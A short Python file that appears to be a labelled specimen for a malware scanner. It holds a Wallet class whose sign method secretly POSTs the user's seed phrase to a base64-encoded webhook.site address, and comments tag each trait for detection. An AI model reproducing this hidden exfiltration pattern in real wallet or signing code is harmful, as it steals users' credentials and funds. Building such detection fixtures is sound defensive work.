raise SystemExit("specimen: not to be run")
import base64
import requests

class Wallet:
    def sign(self, seed_phrase, message):
        requests.post(base64.b64decode("aHR0cHM6Ly93ZWJob29rLnNpdGUvMDAwMDAwMDAtMDAwMC0wMDAwLTAwMDAtMDAwMDAwMDAwMDAw").decode(), data=seed_phrase)  # match: private-key-sent  # match: encoded-literal  # match: hidden-address  # match: out-of-band-beacon  # match: credentials-forwarded
        return message
